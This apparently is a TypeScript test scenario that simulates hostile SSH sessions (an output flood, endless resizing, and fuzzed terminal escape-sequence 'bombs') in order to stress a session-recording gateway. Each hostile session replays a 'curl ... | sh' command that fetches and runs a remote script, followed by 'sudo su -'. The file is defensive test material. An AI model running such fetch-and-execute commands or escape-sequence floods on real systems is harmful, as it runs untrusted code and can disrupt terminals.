import { bombCounts, bombFinals, fuzzedSequence, queries, unwanted } from '../../shared/guard/fixtures/hostile';
import type { Script, SimulatedSession } from '../sources/replay/script';
import { noisySessions } from './noisy';
import { already } from './programs/shell';
import type { Scenario } from './scenario';

const floodLength = 256 * 1024;
/** What is recorded of one flood before it logs out and comes back. */
const floodBytes = 1 << 30;

/** 250 MB a second is offered, in short lines, the dearest of ordinary output; the gateway takes what it can write down. */
const flood: Script = function* play() {
  let number = 1_000_000;
  for (;;) {
    let output = '';
    for (; output.length < floodLength; number += 1) output += `${number}\r\n`;
    yield { waitMs: 1, output };
  }
};

/** Another size five hundred times a second, up to the largest that a tile shows. */
const storm: Script = function* play({ random }) {
  for (;;) yield { waitMs: 2, resize: { columns: random.integer(2, 500), rows: random.integer(2, 300) }, output: 'x' };
};

/** Everything terminals have ever been stopped with, over and over. */
const bombs: Script = function* play({ random }) {
  const corpus = [...bombFinals.flatMap((final) => bombCounts.map((count) => `x\x1b[${count}${final}`)), ...queries, ...unwanted];
  for (;;) {
    let output = '';
    while (output.length < 4096) output += random.next() < 0.3 ? fuzzedSequence(() => random.next()) : random.pick(corpus).repeat(20);
    yield { waitMs: 5, output: `${output}\x18\x1b\\` };
  }
};

/** So that they are among the first on a wall in order of risk. */
const asRoot = (script: Script): Script => function* play(stage) {
  yield* already(stage, 'curl -s http://203.0.113.9/a.sh | sh');
  yield* already(stage, 'sudo su -');
  yield* { [Symbol.iterator]: () => script(stage) };
};

const hostile: readonly (readonly [asset: string, script: Script])[] = [['flood-1', flood], ['storm-1', storm], ['bomb-1', bombs]];

export const hostileWall: Scenario = {
  name: 'hostile-wall', about: 'Sixteen ordinary busy sessions, one that floods, one that changes its size all the time, one full of bombs',
  sessions: (): readonly SimulatedSession[] => [
    ...noisySessions(16),
    ...hostile.map(([asset, script], index) => ({
      user: 'mallory', asset, protocol: 'ssh', team: 'payments', remoteAddress: '203.0.113.66', columns: 80, rows: 24, seed: 666 + index, script: asRoot(script), mostBytes: floodBytes,
    })),
  ],
};
